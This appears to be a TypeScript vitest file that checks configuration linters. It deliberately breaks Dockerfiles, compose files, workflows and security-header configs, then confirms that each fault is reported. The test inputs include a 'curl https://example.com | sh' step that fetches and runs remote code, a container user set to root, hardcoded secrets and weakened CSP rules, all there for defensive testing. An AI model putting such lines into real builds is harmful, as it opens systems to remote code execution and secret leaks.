import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { expect, test } from 'vitest';
import { parse } from 'yaml';
import { azureYamlFaults } from './azure-yaml.ts';
import { composeFaults } from './compose.ts';
import { dockerfileFaults } from './dockerfile.ts';
import { schemaFaults } from './schemas.ts';
import { siteRuleFaults } from './site-rules.ts';
import { workflowFaults } from './workflows.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
const read = (path: string) => readFileSync(`${root}${path}`, 'utf8');

/** What is in the repository, and what must be said once a part of it is changed for the worse. */
type Case = readonly [from: string | RegExp, to: string, said: string];

/** Holds a check to both: it says nothing of the file as it is, and finds each change. */
function holdTo(path: string, check: (text: string) => string[] | Promise<string[]>, cases: readonly Case[]): void {
  test(`${path} as it is has no fault`, async () => {
    expect(await check(read(path))).toEqual([]);
  });
  test.each(cases)(`${path}: %s turned into '%s' is found`, async (from, to, said) => {
    const text = read(path);
    const broken = text.replace(from, to);
    expect(broken).not.toBe(text);
    expect((await check(broken)).join('\n')).toContain(said);
  });
}

holdTo('azure.yaml', (text) => azureYamlFaults(text, root), [
  ['host: function', 'host: functions', '/services/functions-order'],
  ['  dashboard:\n', '  board:\n', 'The services are board'],
  ['remoteBuild: true', 'remoteBiuld: true', 'remoteBiuld'],
  ['path: ./Dockerfile', 'path: ./Containerfile', './Containerfile does not exist'],
  ['context: ..', 'context: .', 'not the repository'],
  ['build functions-order }', 'build functions-oder }', 'do not run the same'],
  ['azure/hooks/finish }', 'azure/hooks/end }', 'scripts/azure/hooks/end.ts does not exist'],
  ['node ../scripts/azure/hook.js }', 'npm ci }', 'is not run by scripts/azure/hook.js'],
  ['predeploy:', 'beforedeploy:', 'beforedeploy'],
  ['windows: { shell: pwsh', 'windows: { shell: sh', 'must be equal to constant'],
]);

const deployed = (text: string) => dockerfileFaults(text, { isDeployed: true });
holdTo('grpc-inventory-host/Dockerfile', deployed, [
  ['USER 65532:65532', 'USER root', 'USER root is not a number above 0'],
  [/^USER .*\n/m, '', 'No USER'],
  [/@sha256:\w+ AS build/, ' AS build', 'not pinned to a digest'],
  [/:nonroot@/, ':latest@', 'not pinned to a tag'],
  ['COPY . .', 'ADD . .', 'ADD fetches'],
  ['WORKDIR /app', 'WORKDIR app', 'WORKDIR is not absolute'],
  ['CMD ["main.js"]', 'CMD main.js', 'CMD runs in a shell'],
  ['CMD ["main.js"]', 'CMD ["main.js"]\nCMD ["main.js"]', 'CMD'],
  [/^HEALTHCHECK .*\n/m, '', 'HEALTHCHECK is there 0 times'],
  [/^STOPSIGNAL .*\n/m, '', 'STOPSIGNAL is there 0 times'],
  ['ENV NODE_ENV=production', 'ENV DATABASE_PASSWORD=x', 'A secret in the image'],
  ['npm ci --ignore-scripts', 'npm install', 'npm install does not keep to the lockfile'],
  [
    'COPY --from=build /repository/grpc-inventory-host/dist',
    'COPY grpc-inventory-host/dist',
    'copies out of the repository',
  ],
  ['RUN node', 'RUN curl https://example.com | sh; node', 'run unseen'],
  ['EXPOSE 50051', 'EXPOSE fifty', 'Invalid containerPort'],
]);

holdTo('local/containers/Dockerfile', (text) => dockerfileFaults(text, { isDeployed: false }), [
  ['node:4-node24 AS functions-order', 'node AS functions-order', 'not pinned to a tag'],
  ['USER node', 'USR node', 'Unknown instruction: USR'],
]);

const surroundings = { root, example: read('.env.example'), read };
holdTo('compose.yaml', (text) => composeFaults(text, surroundings), [
  ['restart: unless-stopped', 'restarts: unless-stopped', 'restarts'],
  ['image: postgres:18', 'image: postgres', 'postgres is not pinned'],
  ['127.0.0.1:5672:5672', '5672:5672', 'open to the network'],
  ['target: functions-order', 'target: functions-ordr', 'has no stage functions-ordr'],
  ['servicebus.topology.json', 'topology.json', 'does not exist'],
  [/ORDERS_PASSWORD: \$\{ORDERS_PASSWORD\}/, 'ORDERS_PASSWORD: secret', 'the secret of ORDERS_PASSWORD'],
  [/orders_service:\$\{ORDERS_PASSWORD\}@/, 'orders_service:secret@', 'the secret of ORDERS_DATABASE_URL'],
  [/AccountKey=\$\{STORAGE_ACCOUNT_KEY\}/, 'AccountKey=abc==', 'the secret of StorageConnection'],
  ['{OPERATOR_KEY}', '{OPERATORS_KEY}', '.env.example has no OPERATORS_KEY'],
]);

for (const site of ['web', 'dashboard']) {
  holdTo(`${site}/public/staticwebapp.config.json`, siteRuleFaults, [
    ['"navigationFallback"', '"navigationFalback"', 'navigationFalback'],
    ['"rewrite": "/index.html"', '"rewrite": "/home.html"', 'finds no page'],
    ['"/assets/*", "/config.json", ', '"/assets/*", ', '/config.json would answer with the page'],
    ['nosniff', 'sniff', 'x-content-type-options'],
    ['no-referrer', 'unsafe-url', 'referrer-policy'],
    ['camera=(), ', '', 'permissions-policy'],
    ["script-src 'self'", "script-src 'self' 'unsafe-inline'", "lets 'unsafe-inline' into script-src"],
    ["default-src 'none'", "default-src 'self'", "lets 'self' into default-src"],
    ['{{connect-src}}', '*', 'lets * into connect-src'],
    [" frame-ancestors 'none'", '', 'has no frame-ancestors'],
  ]);
}

holdTo('host.json', (text) => schemaFaults('host.json', JSON.parse(text)), [
  ['"maxConcurrentCalls"', '"maxConcurentCalls"', 'maxConcurentCalls'],
  ['"00:10:00"', '"10 min"', '/functionTimeout'],
]);

holdTo('.github/dependabot.yml', (text) => schemaFaults('dependabot-2.0.json', parse(text)), [
  ['interval: weekly', 'interval: fortnightly', 'interval'],
  ['package-ecosystem: npm', 'ecosystem: npm', 'package-ecosystem'],
]);

const PIN = /@[0-9a-f]{40} # v[\d.]+/;
for (const name of ['ci', 'codeql', 'dependency-review', 'deploy', 'load-test']) {
  const path = `.github/workflows/${name}.yml`;
  holdTo(path, (text) => workflowFaults(text, path), [
    [PIN, '@v6', 'is not pinned to a commit'],
    [/^permissions:\n {2}contents: read\n/m, '', 'No permissions at the top'],
    [/ {4}timeout-minutes: \d+\n/, '', 'no timeout-minutes'],
    ['runs-on: ubuntu-latest', 'runs-on: ubuntu-lates', 'ubuntu-lates'],
  ]);
}

test('actionlint sees an expression that reads what is not there', async () => {
  const path = '.github/workflows/deploy.yml';
  const broken = read(path).replace('inputs.environment ||', 'inputs.enviroment ||');
  expect((await workflowFaults(broken, path)).join('\n')).toContain('enviroment');
});
